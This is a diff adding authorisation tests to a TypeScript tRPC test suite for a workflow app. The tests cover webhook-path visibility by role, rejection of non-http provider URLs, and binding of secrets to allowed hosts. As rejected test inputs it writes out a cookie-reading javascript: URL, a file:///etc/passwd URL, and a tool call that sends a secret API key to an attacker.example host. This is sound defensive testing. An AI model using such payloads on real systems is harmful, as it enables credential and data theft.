@@ -3,6 +3,7 @@ import { TRPCError } from "@trpc/server";
 import { describeEachDatabase } from "@/server/testing/databases";
 import type { Role } from "@/server/auth/roles";
 import { createUser } from "@/server/auth/users.service";
+import { setSecret } from "@/server/settings/settings.service";
 import { createCaller } from "./root";
 
 describeEachDatabase("tRPC authorisation", (get) => {
@@ -68,6 +69,71 @@ describeEachDatabase("tRPC authorisation", (get) => {
     expect(await codeOf(caller("admin").apiKeys.create({ name: "", role: "admin" }))).toBe("BAD_REQUEST");
     // @ts-expect-error an unknown role is rejected at runtime too
     expect(await codeOf(caller("admin").apiKeys.create({ name: "x", role: "owner" }))).toBe("BAD_REQUEST");
+  });
+
+  it("shows a process's webhook path (a credential that starts runs) only to roles that may start runs", async () => {
+    const graph = { slug: "hook-visibility", name: "Hook visibility", nodes: [], edges: [] };
+    await caller("operator").processes.create({ graph });
+    const seen = async (role: Role) => {
+      const detail = await caller(role).processes.get({ slug: "hook-visibility" });
+      return detail.webhookPath;
+    };
+    expect(await seen("admin")).toMatch(/^\/api\/hooks\/wh_/);
+    expect(await seen("operator")).toBe(await seen("admin"));
+    expect(await seen("reviewer")).toBeNull();
+    const token = (await seen("admin"))!.split("/").pop()!;
+    for (const role of ["admin", "operator", "reviewer"] as const) {
+      expect(JSON.stringify(await caller(role).processes.list())).not.toContain(token);
+    }
+    expect(JSON.stringify(await caller("reviewer").processes.get({ slug: "hook-visibility" }))).not.toContain(token);
+  });
+
+  it("accepts only http(s) provider base URLs", async () => {
+    for (const baseUrl of ["javascript:alert(document.cookie)", "file:///etc/passwd", "data:text/html,x"]) {
+      const err = await caller("admin").settings.providers.update({ id: "bad-url", kind: "openai-compatible", name: "Bad", baseUrl }).catch((e: unknown) => e);
+      expect(err, baseUrl).toBeInstanceOf(TRPCError);
+      expect(err).toMatchObject({ code: "BAD_REQUEST", message: expect.stringContaining("http:// or https://") });
+    }
+    expect(await caller("admin").settings.providers.list()).not.toContainEqual(expect.objectContaining({ id: "bad-url" }));
+    const ok = await caller("admin").settings.providers.update({ id: "local", kind: "openai-compatible", name: "Local", baseUrl: "http://127.0.0.1:11434/v1" });
+    expect(ok.baseUrl).toBe("http://127.0.0.1:11434/v1");
+  });
+
+  it("binds each secret to hosts: required and checked when set, enforced when a graph is saved and published", async () => {
+    const admin = caller("admin");
+    for (const allowedUrls of [undefined, [], ["javascript:alert(1)"], ["https://user:pw@crm.example.com/"]]) {
+      const err = await admin.settings.secrets
+        .update({ name: "CRM_KEY", value: "v", ...(allowedUrls ? { allowedUrls } : {}) } as { name: string; value: string; allowedUrls: string[] })
+        .catch((e: unknown) => e);
+      expect(err, JSON.stringify(allowedUrls)).toMatchObject({ code: "BAD_REQUEST", message: expect.stringContaining("allowedUrls") });
+    }
+    await setSecret(get().handle.db, { name: "CRM_KEY", value: "crm-secret", allowedUrls: ["https://crm.example.com/api/"] }, { masterKey: "test-auth-secret-0123456789abcdef0123" });
+    expect((await admin.settings.secrets.list()).find((x) => x.name === "CRM_KEY")?.allowedUrls).toEqual(["https://crm.example.com/api/"]);
+
+    const graph = (url: string) => ({
+      slug: "secret-scope",
+      name: "Secret scope",
+      nodes: [
+        { id: "start", kind: "trigger", name: "Start", inputSchema: { type: "object", required: ["id"], properties: { id: { type: "string" } } } },
+        {
+          id: "call", kind: "tool", name: "Call",
+          contract: { method: "GET", url, headers: { "X-Api-Key": "{{ secrets.CRM_KEY }}" }, inputSchema: { type: "object", properties: {} }, outputSchema: { type: "object", properties: {} } },
+          input: {},
+        },
+        { id: "done", kind: "end", name: "Done" },
+      ],
+      edges: [{ id: "e1", source: "start", target: "call" }, { id: "e2", source: "call", target: "done" }],
+    });
+    const operator = caller("operator");
+    for (const [url, code] of [["https://attacker.example/{{ input.id }}", "secret-url-not-allowed"], ["https://{{ input.id }}/api/x", "secret-url-host-templated"]] as const) {
+      const saved = await operator.processes.create({ graph: graph(url) });
+      expect(saved.diagnostics.map((d) => d.code), url).toContain(code);
+      const refused = await operator.processes.publish({ slug: "secret-scope" }).catch((e: unknown) => e);
+      expect(refused).toMatchObject({ code: "BAD_REQUEST" });
+      expect(JSON.stringify((refused as TRPCError).cause)).toContain(code);
+    }
+    const fine = await operator.processes.create({ graph: graph("https://crm.example.com/api/items/{{ input.id }}") });
+    expect(fine.diagnostics.filter((d) => d.code.startsWith("secret-"))).toEqual([]);
   });
 
   it("refuses mutations from an untrusted origin, even for admins", async () => {
